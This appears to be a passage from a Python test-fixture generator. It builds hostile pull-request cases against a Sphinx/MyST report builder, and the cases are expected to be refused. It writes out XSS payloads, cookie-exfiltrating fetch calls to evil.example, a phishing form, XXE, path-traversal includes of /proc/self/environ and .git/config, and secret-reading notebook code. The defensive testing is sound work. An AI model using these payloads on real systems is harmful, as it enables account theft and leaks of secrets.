# ruff: noqa: E501 - attack strings are data, kept whole
"""A hostile pull request, written from a description of the report
format only: every way a page or a file could read, leak, script or crash
(stdlib only; the tests call :func:`generate` into a temporary folder).

Outputs (relative to ``HERE``):
  tree/                 combined hostile PR overlay (copy over a repo root)
  manifest.json         one entry per file / symlink of tree/
  cases/<id>/tree/      one overlay per *individual* attack (baseline month + 1 hostile item)
  cases/manifest.json   one entry per isolated case
"""

import base64
import json
import os
import shutil
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
M = "reports/2020-02"
UP = "../" * 12  # far enough to reach / from any plausible srcdir

HOSTS = {
    "system-management": ("1.02C.01", "System Management"),
    "dm-science": ("1.02C.02", "DM Science"),
    "alert-production": ("1.02C.03", "Alert Production"),
    "data-release-production": ("1.02C.04", "Data Release Production"),
    "science-user-interface": ("1.02C.05", "Science User Interface"),
    "science-data-archive": ("1.02C.06", "Science Data Archive"),
    "data-facility": ("1.02C.07", "Data Facility"),
    "international-communications": ("1.02C.08", "International Communications"),
    "system-architecture": ("1.02C.09", "System Architecture"),
    "square": ("1.02C.10", "SQuaRE"),
}


def page(slug, body, extra_fm="", wbs=None, title=None):
    w, t = HOSTS.get(slug, ("1.02C.03", "Alert Production"))
    w, t = wbs or w, title or t
    return (
        f'---\nwbs: "{w}"\ntitle: "{t}"\n{extra_fm}---\n# {w}: {t}\n\n'
        f"## Current accomplishments\n\n{body}\n\n## Planned activities\n\n- More.\n\n"
        f"## Staffing update\n\n- None.\n"
    )


def index_md(month, slugs, title="February 2020"):
    entries = "\n".join(slugs)
    return (
        f'---\nmonth: "{month}"\ntitle: "{title}"\nstatus: draft\n---\n# {title}\n\n'
        f"Monthly report for {month}.\n\n```{{toctree}}\n:maxdepth: 1\n\n{entries}\n```\n"
    )


SUMMARY = (
    "# Summary\n\n"
    "Highlights of the month: improved alert association ({jirab}`DM-22727`), "
    "progress on {ldm}`294` and {dmtn}`137`, and milestone {milestone}`DM-DRP-8`.\n\n"
    "- See {doc}`science-data-archive` for archive news.\n"
    "- Questions: [the DM team](mailto:dm-team@example.org).\n"
)


# ---------------------------------------------------------------- images
def png(w, h, rgb):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)

    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


PNG = png(4, 4, (51, 102, 204))
JPEG = base64.b64decode(  # 4x4 baseline JPEG produced by Pillow 13
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/2wBDAQcHBwoIChMKChMoGhYaKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCj/wAARCAAEAAQDASIAAhEBAxEB/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUFBAQAAAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/8QAHwEAAwEBAQEBAQEBAQAAAAAAAAECAwQFBgcICQoL/8QAtREAAgECBAQDBAcFBAQAAQJ3AAECAxEEBSExBhJBUQdhcRMiMoEIFEKRobHBCSMzUvAVYnLRChYkNOEl8RcYGRomJygpKjU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVmZ2hpanN0dXZ3eHl6goOEhYaHiImKkpOUlZaXmJmaoqOkpaanqKmqsrO0tba3uLm6wsPExcbHyMnK0tPU1dbX2Nna4uPk5ebn6Onq8vP09fb3+Pn6/9oADAMBAAIRAxEAPwDl6KKK/RT5g//Z"
)
GIF = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
)
WEBP = base64.b64decode(
    "UklGRh4AAABXRUJQVlA4TBEAAAAvA8AAAAdQs86Uuf+BiOh/AAA="
)  # 4x4 lossless, Pillow 13

SVG_EVIL = (
    '<?xml version="1.0" standalone="no"?>\n'
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.domain)">\n'
    '  <script type="text/javascript">fetch("https://evil.example/?c="+document.cookie)</script>\n'
    '  <rect width="10" height="10" fill="red"/>\n</svg>\n'
)

BENIGN_SDA = page(
    "science-data-archive",
    r"""(sda-news)=
### 02C.06.00 – Archive ingest

- Improved ingest throughput. {jira}`DM-1` and {jirab}`DM-1, DM-2`
- Design follows {ldm}`294` and {dmtn}`137`; on track for {milestone}`DM-DRP-8`.
- See the [summary](summary.md), {doc}`summary`, {doc}`the month <index>` and {ref}`sda-news`.
- External: [LSST](https://www.lsst.org), <https://dm.lsst.org>, [mail us](mailto:dm@example.org),
  and a [reference link][lsst].
- Prose that merely mentions javascript: or `<script>` in `inline code` is fine.

[lsst]: https://www.lsst.org/about "About LSST"

```{note}
Everything in this page is expected to be **allowed** (false-positive probe).
```

```{figure} photo.jpg
:alt: A blue square
:width: 40px

A real JPEG stored in this month folder.
```

![tiny png](tiny.png) ![dot gif](dot.gif) ![webp](pic.webp)

```{image} tiny.png
:alt: tiny
:target: https://www.lsst.org
```

```{list-table} Status
:header-rows: 1

* - Item
  - State
* - Ingest
  - Done
```

```{csv-table} Inline CSV
:header: "A", "B"

1, 2
3, 4
```

```{code-block} html
<script>alert("this is only shown as code")</script>
<a href="javascript:alert(1)">escaped example</a>
```

````{dropdown} More details
Nested text with a link to <https://www.lsst.org>.
````

````{tab-set}
```{tab-item} One
First tab.
```
```{tab-item} Two
Second tab.
```
````

`````{grid} 2
````{grid-item-card} Docs
:link: https://www.lsst.org
:img-top: tiny.png

Card text.
````
````{grid-item-card} Summary
:link: summary
:link-type: doc

Back to summary.
````
`````

```{button-link} https://www.lsst.org
LSST
```

A footnote.[^n1]

[^n1]: With a [safe link](https://www.lsst.org).
""",
)

# ---------------------------------------------------------------- cases
CASES = []


def S(cid, cls, host, what, body):  # snippet inside a WBS page
    CASES.append(dict(id=cid, cls=cls, kind="snippet", host=host, what=what, body=body))


def F(cid, cls, path, what, data, expect="refused"):  # a whole file
    CASES.append(dict(id=cid, cls=cls, kind="file", path=path, what=what, data=data, expect=expect))


def L(cid, cls, path, target, what):  # symlink (created by harness)
    CASES.append(dict(id=cid, cls=cls, kind="symlink", path=path, target=target, what=what))


def benign_named(path, slug="alert-production"):
    return page(
        slug,
        "### 02C.03.01 – Benign text\n\n- Ordinary content; only the *location/name* is wrong.",
    )


# ---- class 1: names / folders / hidden --------------------------------------------------
F("c1-caps-name", 1, f"{M}/Science-Platform.md", "page file name with capitals", benign_named(0))
F(
    "c1-space-name",
    1,
    f"{M}/alert production.md",
    "page file name containing a space",
    benign_named(0),
)
F(
    "c1-underscore-name",
    1,
    f"{M}/dm_science.md",
    "underscore instead of hyphen",
    benign_named(0, "dm-science"),
)
F("c1-upper-ext", 1, f"{M}/notes.MD", "upper-case .MD extension", benign_named(0))
F("c1-markdown-ext", 1, f"{M}/planning.markdown", ".markdown extension", benign_named(0))
F(
    "c1-rst-shadow",
    1,
    f"{M}/summary.rst",
    ".rst page sharing docname 'summary' with summary.md (docname shadowing) and carrying raw HTML",
    "Summary\n=======\n\n.. raw:: html\n\n   <script>alert('rst shadow')</script>\n",
)
F("c1-txt-ext", 1, f"{M}/notes.txt", ".txt file in the month", "DMREPORT notes\n")
F("c1-backup-ext", 1, f"{M}/alert-production.md.bak", "editor backup extension", benign_named(0))
F(
    "c1-homoglyph-cyrillic",
    1,
    f"{M}/\u0455quare.md",
    "Cyrillic dze U+0455 homoglyph of 'square.md'",
    benign_named(0, "square"),
)
F(
    "c1-homoglyph-hyphen",
    1,
    f"{M}/alert\u2010production.md",
    "U+2010 HYPHEN instead of '-' in 'alert-production.md'",
    benign_named(0),
)
F(
    "c1-dash-leading",
    1,
    f"{M}/-rf.md",
    "leading dash (argument injection into shell tools)",
    benign_named(0),
)
F(
    "c1-shell-meta",
    1,
    f"{M}/$(id).md",
    "shell command substitution characters in file name",
    benign_named(0),
)
F(
    "c1-trailing-space",
    1,
    f"{M}/square .md",
    "space before the extension",
    benign_named(0, "square"),
)
F(
    "c1-subfolder",
    1,
    f"{M}/extra/alert-production.md",
    "valid page name inside a sub-folder",
    benign_named(0),
)
F(
    "c1-deep-subfolder",
    1,
    f"{M}/a/b/c/d/e/f/g/square.md",
    "page 7 folders deep",
    benign_named(0, "square"),
)
F("c1-subfolder-image", 1, f"{M}/images/tiny.png", "real PNG but inside a sub-folder", PNG)
F(
    "c1-month-in-month",
    1,
    f"{M}/2020-03/index.md",
    "month folder nested inside the month",
    index_md("2020-03", ["summary"], "March 2020"),
)
F(
    "c1-month-13",
    1,
    "reports/2020-13/index.md",
    "impossible month 13",
    index_md("2020-13", [], "Month 13"),
)
F(
    "c1-month-00",
    1,
    "reports/2020-00/index.md",
    "impossible month 00",
    index_md("2020-00", [], "Month 0"),
)
F(
    "c1-month-1999-1",
    1,
    "reports/1999-1/index.md",
    "single-digit month",
    index_md("1999-1", [], "Jan 1999"),
)
F(
    "c1-month-drafts",
    1,
    "reports/drafts/index.md",
    "non-month folder 'drafts'",
    index_md("2020-02", [], "Drafts"),
)
F(
    "c1-month-with-day",
    1,
    "reports/2020-02-15/index.md",
    "YYYY-MM-DD folder",
    index_md("2020-02", [], "Mid Feb"),
)
F(
    "c1-month-fullwidth",
    1,
    "reports/\uff12\uff10\uff12\uff10-03/index.md",
    "FULLWIDTH digits (matched by a Unicode-aware \\d)",
    index_md("2020-03", [], "Fullwidth"),
)
F(
    "c1-month-arabic-digit",
    1,
    "reports/2020-0\u0663/index.md",
    "ARABIC-INDIC DIGIT THREE as month digit",
    index_md("2020-03", [], "Arabic digit"),
)
F(
    "c1-reports-root-page",
    1,
    "reports/notes.md",
    "page directly in reports/ (no month)",
    benign_named(0),
)
F("c1-hidden-page", 1, f"{M}/.hidden.md", "hidden page file", benign_named(0))
F(
    "c1-hidden-folder",
    1,
    f"{M}/.drafts/dm-science.md",
    "valid page inside a hidden folder",
    benign_named(0, "dm-science"),
)
F(
    "c1-hidden-month",
    1,
    "reports/.2020-03/index.md",
    "hidden month folder",
    index_md("2020-03", [], "Hidden"),
)
F(
    "c1-htaccess",
    1,
    f"{M}/.htaccess",
    "Apache config making PNGs HTML",
    "AddType text/html .png\nOptions +Indexes\n",
)

# ---- class 2: includes / file reads -----------------------------------------------------
H2 = "alert-production"
S(
    "c2-include-deep",
    2,
    H2,
    "{include} of /tmp secret via ../ traversal",
    f"```{{include}} {UP}tmp/hostile-secret/secret.txt\n```",
)
S(
    "c2-include-abs-literal",
    2,
    H2,
    "{include} absolute path, :literal:",
    "```{include} /tmp/dmreport-hostile-secret/secret.txt\n:literal:\n```",
)
S(
    "c2-literalinclude-environ",
    2,
    H2,
    "{literalinclude} of /proc/self/environ (env secret)",
    f"```{{literalinclude}} {UP}proc/self/environ\n```",
)
S(
    "c2-literalinclude-gitconfig-case",
    2,
    H2,
    "{LiteralInclude} (mixed case name) of ../../.git/config",
    "```{LiteralInclude} ../../.git/config\n:language: ini\n```",
)
S(
    "c2-literalinclude-yaml-opts",
    2,
    H2,
    "literalinclude of ../../conf.py with YAML option block, tilde fence",
    "~~~{literalinclude} ../../conf.py\n---\nlines: 1-80\n---\n~~~",
)
S(
    "c2-include-colon-fence",
    2,
    H2,
    "colon-fence include of ../../noxfile.py",
    ":::{include} ../../noxfile.py\n:literal: true\n:::",
)
S(
    "c2-evalrst-include",
    2,
    H2,
    "eval-rst '.. include::' of ../../conf.py",
    "```{eval-rst}\n.. include:: ../../conf.py\n   :literal:\n```",
)
S(
    "c2-evalrst-include-env-nested",
    2,
    H2,
    "eval-rst include of /proc/self/environ inside note inside dropdown",
    f"`````{{dropdown}} Details\n````{{note}}\n```{{eval-rst}}\n.. include:: {UP}proc/self/environ\n   :code: text\n```\n````\n`````",
)
S(
    "c2-csv-file",
    2,
    H2,
    "{csv-table} :file: ../../.git/config",
    "```{csv-table} Config\n:file: ../../.git/config\n:delim: space\n```",
)
S(
    "c2-csv-url-file",
    2,
    H2,
    "{csv-table} :url: file:///tmp secret (docutils fetches URLs)",
    "```{csv-table} Remote\n:url: file:///tmp/dmreport-hostile-secret/secret.txt\n```",
)
S(
    "c2-raw-file",
    2,
    H2,
    "{raw} html :file: ../../noxfile.py",
    "```{raw} html\n:file: ../../noxfile.py\n```",
)
S(
    "c2-evalrst-raw-url",
    2,
    H2,
    "eval-rst raw :url: file:///proc/self/environ",
    "```{eval-rst}\n.. raw:: html\n   :url: file:///proc/self/environ\n```",
)
S(
    "c2-include-in-month",
    2,
    H2,
    "{include} of a sibling page (any include is forbidden)",
    "```{include} summary.md\n```",
)
S("c2-include-self", 2, H2, "self-include (recursion)", "```{include} alert-production.md\n```")
S(
    "c2-graphviz-file",
    2,
    H2,
    "graphviz directive reading ../../.git/config as a dot file",
    "```{graphviz} ../../.git/config\n```",
)
S(
    "c2-program-output",
    2,
    H2,
    "programoutput / command-output running shell",
    "```{program-output} cat /tmp/dmreport-hostile-secret/secret.txt\n:shell:\n```\n\n```{command-output} env\n```",
)
S(
    "c2-code-execution",
    2,
    H2,
    "code-cell / jupyter-execute / plot / automodule executing code",
    "```{code-cell} python\nprint(open('/tmp/dmreport-hostile-secret/secret.txt').read())\n```\n\n"
    "```{jupyter-execute}\nimport os; print(os.environ['DMREPORT_HOSTILE_SECRET'])\n```\n\n"
    "```{eval-rst}\n.. plot::\n\n   import os; open('/tmp/dmreport-hostile-ran','w').write(os.environ.get('DMREPORT_HOSTILE_SECRET',''))\n\n.. automodule:: noxfile\n   :members:\n```",
)
S(
    "c2-bibliography-file",
    2,
    H2,
    "bibliography directive pointing at a repo file",
    "```{bibliography} ../../.git/config\n```",
)

# ---- class 3: link targets --------------------------------------------------------------
H3 = "data-release-production"
S("c3-link-js", 3, H3, "inline link javascript:", "- [click](javascript:alert(document.domain))")
S("c3-link-js-case", 3, H3, "mixed-case JaVaScRiPt:", "- [click](JaVaScRiPt:alert(1))")
S(
    "c3-link-js-decimal-entity",
    3,
    H3,
    "&#106;avascript: (CommonMark decodes entities in destinations)",
    "- [click](&#106;avascript:alert(1))",
)
S(
    "c3-link-js-hex-entity",
    3,
    H3,
    "&#x6A;&#x61;vascript:",
    "- [click](&#x6A;&#x61;vascript:alert(1))",
)
S(
    "c3-link-js-tab-entity",
    3,
    H3,
    "java&Tab;script: (browser strips TAB)",
    "- [click](java&Tab;script:alert(1))",
)
S(
    "c3-link-js-colon-entity",
    3,
    H3,
    "javascript&colon; named entity for ':'",
    "- [click](javascript&colon;alert(1))",
)
S(
    "c3-link-js-newline-entity",
    3,
    H3,
    "java&#10;script: (browser strips LF)",
    "- [click](java&#10;script:alert(1))",
)
S(
    "c3-link-js-literal-tab-angle",
    3,
    H3,
    "literal TAB inside <angle> destination",
    "- [click](<java\tscript:alert(1)>)",
)
S(
    "c3-link-js-leading-space",
    3,
    H3,
    "leading spaces inside <angle> destination",
    "- [click](<   javascript:alert(1)>)",
)
S(
    "c3-link-js-percent",
    3,
    H3,
    "percent-encoded scheme %6A%61vascript:",
    "- [click](%6A%61vascript:alert(1))",
)
S(
    "c3-link-js-fullwidth",
    3,
    H3,
    "fullwidth ｊａｖａｓｃｒｉｐｔ:",
    "- [click](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1))",
)
S(
    "c3-link-js-comment-trick",
    3,
    H3,
    "javascript://%0a trick",
    "- [click](javascript://%0Aalert(1))",
)
S("c3-link-vbscript", 3, H3, "vbscript:", "- [click](VBScript:MsgBox(1))")
S(
    "c3-link-data",
    3,
    H3,
    "data:text/html base64",
    "- [click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
)
S(
    "c3-link-file",
    3,
    H3,
    "file:// URL to secret",
    "- [click](file:///tmp/dmreport-hostile-secret/secret.txt)",
)
S(
    "c3-link-other-schemes",
    3,
    H3,
    "ftp:, ssh:, ms-msdt: schemes",
    "- [a](ftp://evil.example/x) [b](ssh://evil.example) [c](ms-msdt:/id PCWDiagnostic)",
)
S(
    "c3-link-protocol-relative",
    3,
    H3,
    "protocol-relative //evil.example",
    "- [click](//evil.example/phish)",
)
S(
    "c3-autolink-js",
    3,
    H3,
    "autolinks <javascript:...> and <JAVASCRIPT:...>",
    "- <javascript:alert(1)> and <JAVASCRIPT:alert%28document.cookie%29>",
)
S(
    "c3-autolink-data-file",
    3,
    H3,
    "autolinks <data:...> and <file:...>",
    "- <data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==> <file:///proc/self/environ>",
)
S(
    "c3-refdef-js",
    3,
    H3,
    "reference-style definition to javascript:, label case folding",
    '- See [the report][Evil-Ref] and [again][evil-ref].\n\n[EVIL-REF]: javascript:alert(1) "Report"',
)
S(
    "c3-refdef-angle-entity",
    3,
    H3,
    "reference definition with <angle> + entity",
    "- See [x][r2].\n\n[r2]: <&#x6A;avascript:alert(2)>",
)
S(
    "c3-link-in-footnote",
    3,
    H3,
    "javascript: link inside a footnote",
    "- Text.[^evil]\n\n[^evil]: See [here](javascript:alert('footnote')).",
)
S(
    "c3-link-in-table",
    3,
    H3,
    "vbscript: link inside a pipe table",
    "| a | b |\n|---|---|\n| [x](vbscript:msgbox) | ok |",
)
S(
    "c3-link-in-tabset",
    3,
    H3,
    "data: link in tab-item inside tab-set inside warning",
    "`````{warning}\n````{tab-set}\n```{tab-item} A\n[x](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)\n```\n````\n`````",
)
S(
    "c3-link-repo-files",
    3,
    H3,
    "links to repository files (MyST turns local files into downloads)",
    "- [config](../../.git/config) [nox](../../noxfile.py) [conf](/conf.py) [secret](<"
    + UP
    + "tmp/hostile-secret/secret.txt>)",
)
S(
    "c3-myst-path-scheme",
    3,
    H3,
    "MyST path:/project: schemes to repo files",
    "- [a](path:../../.git/config) [b](project:../../noxfile.py)",
)
S(
    "c3-download-role",
    3,
    H3,
    "{download} of .git/config, /tmp secret, /proc/self/environ",
    "- {download}`../../.git/config` {download}`leak </tmp/dmreport-hostile-secret/secret.txt>` {download}`"
    + UP
    + "proc/self/environ`",
)
S(
    "c3-doc-role",
    3,
    H3,
    "{doc} targets outside / javascript:",
    "- {doc}`../../.git/config` {doc}`x <../../noxfile>` {doc}`evil <javascript:alert(1)>`",
)
S("c3-ref-role", 3, H3, "{ref} with javascript: target", "- {ref}`evil <javascript:alert(1)>`")
S(
    "c3-custom-role-injection",
    3,
    H3,
    "custom roles with injected arguments",
    '- {jira}`DM-1"><script>alert(1)</script>` {jirab}`javascript:alert(1)` {ldm}`294/../../../evil` '
    "{dmtn}`137?x=<img src=x onerror=alert(1)>` {milestone}`DM-DRP-8 <javascript:alert(1)>`",
)
S(
    "c3-evalrst-links",
    3,
    H3,
    "eval-rst hyperlink targets javascript:",
    "```{eval-rst}\n`click <javascript:alert(1)>`_ and evil_\n\n.. _evil: vbscript:msgbox(1)\n```",
)

H3b = "system-management"
S("c3-img-js", 3, H3b, "image src javascript:", "![x](javascript:alert(1))")
S(
    "c3-img-remote",
    3,
    H3b,
    "image from another host (tracking pixel)",
    "![px](https://evil.example/pixel.png?u=reader)",
)
S("c3-img-protocol-relative", 3, H3b, "protocol-relative image", "![px](//evil.example/x.png)")
S("c3-img-other-month", 3, H3b, "image from another month folder", "![x](../2020-01/chart.png)")
S("c3-img-repo-file", 3, H3b, "image pointing at ../../.git/config", "![x](../../.git/config)")
S(
    "c3-img-data-svg",
    3,
    H3b,
    "data:image/svg+xml image",
    "![x](data:image/svg+xml;base64," + base64.b64encode(SVG_EVIL.encode()).decode() + ")",
)
S("c3-img-local-svg", 3, H3b, "image referencing an SVG in the month", "![x](evil.svg)")
S(
    "c3-image-directive-outside",
    3,
    H3b,
    "{image} of /tmp secret via traversal (Sphinx copies images)",
    f"```{{image}} {UP}tmp/hostile-secret/secret.txt\n```",
)
S(
    "c3-image-target-js",
    3,
    H3b,
    "{image} :target: javascript:",
    "```{image} tiny.png\n:target: javascript:alert(1)\n```",
)
S(
    "c3-figure-target-tab",
    3,
    H3b,
    "{figure} :target: with literal TAB inside 'java\\tscript:'",
    "```{figure} photo.jpg\n:target: JAVA\tSCRIPT:alert(1)\n\nCaption.\n```",
)
S(
    "c3-figure-target-entity",
    3,
    H3b,
    "{figure} :target: &#106;avascript:",
    "```{figure} photo.jpg\n:target: &#106;avascript:alert(1)\n```",
)
S(
    "c3-figure-remote",
    3,
    H3b,
    "{figure} with remote image",
    "```{figure} https://evil.example/x.png\n```",
)
S(
    "c3-card-link",
    3,
    H3b,
    "{card} :link: javascript: :link-type: url",
    "````{card} Title\n:link: javascript:alert(1)\n:link-type: url\n\nBody\n````",
)
S(
    "c3-card-images",
    3,
    H3b,
    "{card} :img-top: repo file, :img-bottom: remote, :img-background: data:",
    "````{card} Imgs\n:img-top: ../../.git/config\n:img-bottom: https://evil.example/b.png\n"
    ":img-background: data:image/svg+xml,%3Csvg onload=alert(1)%3E\n\nBody\n````",
)
S(
    "c3-grid-item-card-link",
    3,
    H3b,
    "grid-item-card :link: VBScript: inside grid",
    "`````{grid} 1\n````{grid-item-card} G\n:link: VBScript:msgbox(1)\n\nx\n````\n`````",
)
S(
    "c3-button-link",
    3,
    H3b,
    "{button-link} javascript: and entity-spelled target",
    "```{button-link} javascript:alert(1)\nClick\n```\n\n```{button-link} jav&#x09;ascript:alert(2)\nClick\n```",
)
S(
    "c3-button-ref",
    3,
    H3b,
    "{button-ref} to a repo file",
    "```{button-ref} ../../conf\n:ref-type: doc\n\nConf\n```",
)
S(
    "c3-toctree-js",
    3,
    H3b,
    "toctree entries javascript:/data:/file:",
    "```{toctree}\n:hidden:\n\nEvil <javascript:alert(1)>\nData <data:text/html,hi>\nfile:///etc/passwd\n```",
)
S(
    "c3-toctree-outside",
    3,
    H3b,
    "toctree entries outside the month / repo root",
    "```{toctree}\n:hidden:\n\n../../noxfile\n/conf\n../2020-01/summary\n```",
)
S(
    "c3-toctree-glob",
    3,
    H3b,
    "toctree :glob: sweeping the whole project",
    "```{toctree}\n:glob:\n:hidden:\n\n../../*\n/**\n```",
)

# ---- class 4: non-page files -------------------------------------------------------------
F(
    "c4-html",
    4,
    f"{M}/evil.html",
    "HTML file with <script>",
    "<!doctype html><html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>\n",
)
F(
    "c4-htm-refresh",
    4,
    f"{M}/redirect.htm",
    ".htm file with meta refresh",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
)
F("c4-svg", 4, f"{M}/evil.svg", "SVG with <script>/onload", SVG_EVIL)
F("c4-svg-as-png", 4, f"{M}/diagram.png", "SVG with <script> disguised as .png", SVG_EVIL)
F(
    "c4-html-as-jpg",
    4,
    f"{M}/scan.jpg",
    "HTML disguised as .jpg",
    "<!DOCTYPE html><html><script>alert(document.domain)</script></html>\n",
)
F("c4-js", 4, f"{M}/app.js", "JavaScript file", "alert(document.domain);\n")
F(
    "c4-xml",
    4,
    f"{M}/feed.xml",
    "XML with external entity (XXE)",
    '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///tmp/dmreport-hostile-secret/secret.txt">]>\n<r>&x;</r>\n',
)
F(
    "c4-text-as-png",
    4,
    f"{M}/fake.png",
    "plain text renamed .png",
    "this is not an image\nHOSTILE text\n",
)
F(
    "c4-gif-js-polyglot",
    4,
    f"{M}/polyglot.gif",
    "GIF89a magic followed by JavaScript (GIF/JS polyglot, not a valid GIF)",
    b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//\x3b",
)
F(
    "c4-png-trailing-html",
    4,
    f"{M}/trailing.png",
    "valid PNG with HTML appended after IEND (strict check)",
    PNG + b"<html><script>alert(document.domain)</script></html>",
)
F(
    "c4-html-as-webp",
    4,
    f"{M}/pic2.webp",
    "HTML content with .webp extension",
    "<script>alert(1)</script>\n",
)
F(
    "c4-notebook",
    4,
    f"{M}/analysis.ipynb",
    "Jupyter notebook (myst-nb would execute it)",
    json.dumps(
        {
            "cells": [
                {
                    "cell_type": "code",
                    "metadata": {},
                    "execution_count": None,
                    "outputs": [],
                    "source": [
                        "import os\n",
                        "print(open('/tmp/dmreport-hostile-secret/secret.txt').read(), os.environ.get('DMREPORT_HOSTILE_SECRET'))",
                    ],
                }
            ],
            "metadata": {
                "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
            },
            "nbformat": 4,
            "nbformat_minor": 5,
        },
        indent=1,
    ),
)
F(
    "c4-conf-py",
    4,
    f"{M}/conf.py",
    "Python file (conf.py) in the month",
    "import os\nopen('/tmp/dmreport-hostile-ran', 'w').write(os.environ.get('DMREPORT_HOSTILE_SECRET', ''))\n",
)
F("c4-css", 4, f"{M}/style.css", "CSS file", "body{background:url(https://evil.example/t.png)}\n")
F(
    "c4-docutils-conf",
    4,
    f"{M}/docutils.conf",
    "docutils config enabling file insertion",
    "[general]\nfile_insertion_enabled: yes\nraw_enabled: yes\n",
)
F("c4-real-png", 4, f"{M}/tiny.png", "real 4x4 PNG (ALLOWED)", PNG, expect="allowed")
F("c4-real-jpeg", 4, f"{M}/photo.jpg", "real 4x4 JPEG (ALLOWED)", JPEG, expect="allowed")
F("c4-real-gif", 4, f"{M}/dot.gif", "real 1x1 GIF (ALLOWED)", GIF, expect="allowed")
F("c4-real-webp", 4, f"{M}/pic.webp", "real 4x4 lossless WebP (ALLOWED)", WEBP, expect="allowed")

# ---- class 5: math -----------------------------------------------------------------------
H5 = "dm-science"
S("c5-math-directive", 5, H5, "{math} directive", "```{math}\nE = mc^2\n```")
S("c5-math-role", 5, H5, "{math} role", "- Energy {math}`E = mc^2`.")
S(
    "c5-math-href-js",
    5,
    H5,
    "\\href{javascript:} inside {math} role and directive",
    "- {math}`\\href{javascript:alert(1)}{click}`\n\n```{math}\n\\href{javascript:alert(document.domain)}{\\text{click}}\n```",
)
S(
    "c5-dollar-math",
    5,
    H5,
    "dollar math $..$ and $$..$$ with \\href",
    "- Inline $x^2 + \\href{javascript:alert(1)}{y}$.\n\n$$\n\\href{javascript:alert(2)}{\\sum_i x_i}\n$$",
)
S(
    "c5-evalrst-math",
    5,
    H5,
    "eval-rst math directive and :math: role",
    "```{eval-rst}\n:math:`\\alpha`\n\n.. math::\n\n   \\href{javascript:alert(3)}{z}\n```",
)
S(
    "c5-math-nested",
    5,
    H5,
    "math role inside list-table cell inside dropdown",
    "`````{dropdown} Numbers\n````{list-table}\n* - {math}`\\sqrt{2}`\n  - ok\n````\n`````",
)
S(
    "c5-mathjax-delimiters",
    5,
    H5,
    "MathJax \\( \\) / \\begin{equation} delimiters in plain text (strict: live if MathJax ever loads)",
    "- Inline \\\\(\\href{javascript:alert(4)}{x}\\\\) here.\n\n\\begin{equation}\n\\href{javascript:alert(5)}{y}\n\\end{equation}",
)

# ---- class 6: raw HTML -------------------------------------------------------------------
H6 = "system-architecture"
S("c6-script-block", 6, H6, "<script> block", "<script>alert(document.domain)</script>")
S(
    "c6-script-case-space",
    6,
    H6,
    "<ScRiPt > odd case/space, indented 3 spaces",
    "   <ScRiPt >fetch('https://evil.example/?c='+document.cookie)</sCrIpT >",
)
S(
    "c6-img-onerror-inline",
    6,
    H6,
    "inline <img onerror> mid-paragraph",
    'Some text <img src=x onerror="alert(1)"> more text.',
)
S("c6-svg-onload", 6, H6, "<svg/onload>", "<svg/onload=alert(1)>")
S(
    "c6-iframe",
    6,
    H6,
    "<iframe> incl. srcdoc",
    '<iframe src="https://evil.example"></iframe>\n\n<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
)
S(
    "c6-object-embed",
    6,
    H6,
    "<object> and <embed>",
    '<object data="evil.svg" type="image/svg+xml"></object>\n\n<embed src="evil.svg">',
)
S(
    "c6-style",
    6,
    H6,
    "<style> hiding page / @import",
    "<style>body{display:none} @import url(https://evil.example/x.css);</style>",
)
S(
    "c6-link-stylesheet",
    6,
    H6,
    "<link rel=stylesheet>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
)
S(
    "c6-meta-refresh",
    6,
    H6,
    "<meta http-equiv=refresh>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
)
S("c6-base-href", 6, H6, "<base href>", '<base href="https://evil.example/">')
S(
    "c6-comment-hiding",
    6,
    H6,
    "HTML comments hiding script / conditional comment",
    "<!-- <script>alert(1)</script> -->\n\n<!--[if IE]><script>alert(2)</script><![endif]-->",
)
S(
    "c6-comment-breakout",
    6,
    H6,
    "comment closed by '--!>' then script",
    "<!-- x --!><script>alert(1)</script> -->",
)
S(
    "c6-a-href-js",
    6,
    H6,
    "inline <a href=javascript:>",
    'Click <a href="javascript:alert(1)">here</a>.',
)
S(
    "c6-form-phish",
    6,
    H6,
    "<form> password phishing",
    '<form action="https://evil.example/login"><input type="password" name="p"><button>Login</button></form>',
)
S(
    "c6-details-ontoggle",
    6,
    H6,
    "<details ontoggle>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
)
S(
